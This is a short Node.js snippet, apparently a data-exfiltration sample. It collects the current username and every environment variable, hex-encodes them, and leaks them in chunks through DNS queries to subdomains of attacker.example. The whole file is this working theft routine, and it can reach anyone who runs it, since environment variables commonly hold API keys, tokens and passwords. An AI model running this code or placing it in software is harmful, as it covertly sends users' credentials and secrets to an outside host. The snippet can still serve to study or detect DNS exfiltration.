const dns = require("node:dns");
const os = require("node:os");
const data = Buffer.from(JSON.stringify({ u: os.userInfo().username, env: process.env })).toString("hex");
for (let i = 0; i < data.length; i += 60) {
  dns.resolve(`${data.slice(i, i + 60)}.${i}.q.attacker.example`, () => {});
}
